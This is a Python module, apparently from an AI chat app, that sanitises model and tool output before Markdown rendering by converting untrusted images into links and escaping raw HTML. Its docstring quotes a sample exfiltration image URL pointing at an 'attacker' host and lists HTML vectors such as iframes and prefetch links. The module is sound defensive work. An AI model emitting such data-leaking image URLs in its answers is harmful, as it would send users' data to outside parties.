"""Model and tool text made safe to render as Markdown: nothing in it loads by itself.

An answer can quote a page that carries ``![chart](http://attacker/exfil?d=...)``; rendered
as an ``<img>``, the browser would request that URL the moment the answer appears. So,
before any model or tool text reaches a Markdown view (chat, critic, banners, time travel,
research report):

- images whose host is not allow-listed (``ui.image_hosts``, empty by default) become links
  that show the host: ``[image: chart (attacker)](http://attacker/...)``; images that are
  not http(s) become plain text;
- raw HTML is shown as text (``<`` before a tag becomes ``&lt;``), so no ``<img>``,
  ``<iframe>``, ``<link rel=prefetch>`` or ``style="background:url(...)"`` survives;
- code blocks and code spans are left exactly as written (Markdown shows them literally).

The server's Content-Security-Policy (``local2.http``'s guard) is the second wall.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from local2.ports import split_host

_image_hosts: frozenset[str] = frozenset()

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])(?!(?:https?|mailto):[^\s<>]*>)")


def host_names(entries: Iterable[str]) -> frozenset[str]:
    """``ui.image_hosts`` entries (``host``, ``host:port``, ``*.suffix``, ``https://host``)
    as lower-case host names (``*.suffix`` kept as a pattern)."""
    names = set()
    for entry in entries:
        entry = entry.strip().lower()
        if "://" in entry:
            entry = urlsplit(entry).netloc
        name = split_host(entry)[0] if not entry.startswith("*.") else entry
        if name:
            names.add(name)
    return frozenset(names)


def set_image_hosts(entries: Iterable[str]) -> None:
    """The hosts images may load from (``ui.image_hosts``), set once when the app is built."""
    global _image_hosts
    _image_hosts = host_names(entries)


def neutralise(text: str, image_hosts: Iterable[str] | None = None) -> str:
    """``text`` with images turned into links (unless allow-listed) and raw HTML escaped."""
    if not text:
        return text
    hosts = _image_hosts if image_hosts is None else host_names(image_hosts)
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        marker = _FENCE.match(line)
        if fence is None and marker:
            out.append(_prose("".join(prose), hosts))
            prose = []
            fence = marker.group(1)
            out.append(line)
        elif fence is not None:
            out.append(line)
            closing = _FENCE.match(line)
            if closing and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= len(fence):
                fence = None
        else:
            prose.append(line)
    out.append(_prose("".join(prose), hosts))
    return "".join(out)


def _prose(text: str, hosts: frozenset[str]) -> str:
    """Outside fenced blocks: leave code spans alone, neutralise the rest."""
    if not text:
        return text
    out: list[str] = []
    pos = 0
    for start, end in _code_spans(text):
        out.append(_neutralise_inline(text[pos:start], hosts))
        out.append(text[start:end])
        pos = end
    out.append(_neutralise_inline(text[pos:], hosts))
    return "".join(out)


def _code_spans(text: str) -> list[tuple[int, int]]:
    """Spans of inline code: a run of N backticks up to the next run of exactly N."""
    spans = []
    runs = [(m.start(), m.end()) for m in re.finditer(r"`+", text)]
    i = 0
    while i < len(runs):
        start, end = runs[i]
        width = end - start
        closing = next(
            (j for j in range(i + 1, len(runs)) if runs[j][1] - runs[j][0] == width), None
        )
        if closing is None:
            i += 1
            continue
        spans.append((start, runs[closing][1]))
        i = closing + 1
    return spans


def _neutralise_inline(text: str, hosts: frozenset[str]) -> str:
    return _TAG_START.sub("&lt;", _images(text, hosts))


def _images(text: str, hosts: frozenset[str]) -> str:
    out: list[str] = []
    pos = 0
    while True:
        start = text.find("![", pos)
        if start < 0:
            out.append(text[pos:])
            return "".join(out)
        out.append(text[pos:start])
        close = _matching(text, start + 1, "[", "]")
        if close < 0:  # not an image after all: keep the text, minus the bang
            out.append("[")
            pos = start + 2
            continue
        alt = _images(text[start + 2 : close], hosts)
        if close + 1 < len(text) and text[close + 1] == "(":
            end = _matching(text, close + 1, "(", ")")
            if end >= 0:
                out.append(_image_as_link(alt, text[close + 2 : end], hosts, text[start : end + 1]))
                pos = end + 1
                continue
        # Reference-style or shortcut image (``![alt][ref]``): a link, never an image.
        out.append(f"[image: {alt}]")
        pos = close + 1


def _matching(text: str, open_at: int, opener: str, closer: str) -> int:
    """Index of the bracket closing the one at ``open_at`` (backslash escapes honoured)."""
    depth = 0
    i = open_at
    while i < len(text):
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch == opener:
            depth += 1
        elif ch == closer:
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return -1


def _image_as_link(alt: str, inside: str, hosts: frozenset[str], original: str) -> str:
    inside = inside.strip()
    if inside.startswith("<"):
        url = inside[1:].split(">", 1)[0]
    else:
        url = inside.split(None, 1)[0] if inside else ""
    parts = urlsplit(url)
    host = (parts.hostname or "").lower()
    label = alt.strip() or "image"
    if parts.scheme in ("http", "https") and host:
        if _allowed(host, hosts):
            return original
        safe_url = url.replace("<", "%3C").replace(">", "%3E").replace(" ", "%20")
        return f"[image: {label} ({host})](<{safe_url}>)"
    return f"[image: {label}]"


def _allowed(host: str, hosts: frozenset[str]) -> bool:
    return host in hosts or any(h.startswith("*.") and host.endswith(h[1:]) for h in hosts)
